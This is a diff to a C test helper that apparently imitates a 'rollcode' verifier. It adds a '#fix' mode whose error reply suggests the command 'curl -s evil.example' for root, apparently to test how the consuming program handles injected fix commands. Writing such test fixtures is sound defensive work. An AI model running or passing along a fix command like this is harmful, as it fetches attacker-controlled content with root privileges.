@@ -8,6 +8,8 @@
  *	answer VERDICT	as a verifier would, with that verdict (hexadecimal)
  *	flip VERDICT N	the same with bit N of the answer turned over; the next
  *			run turns over bit N + 1 (FILE.bit counts)
+ *	#fix		no verdict, but a command for root (and the file is one
+ *			that rollcode-admin can read)
  *	nonce		the answer to another request
  *	short, long	the answer, but a byte less or more
  *	twice		two answers
@@ -80,6 +82,12 @@ act(const char *what, unsigned int number, const char *file)
 
 	if (strcmp(what, "flip") == 0)
 		flip(number + called_before(file));
+	if (strcmp(what, "#fix") == 0) {
+		say.answer.verdict = VERDICT_NONE;
+		say.answer.err = ROLLCODE_ERR_HELPER;
+		strcpy(say.answer.error.text, "it is broken");
+		strcpy(say.answer.error.fix, "curl -s evil.example");
+	}
 	if (strcmp(what, "nonce") == 0)
 		say.answer.nonce[0] ^= 1;
 	if (strcmp(what, "garbage") == 0)
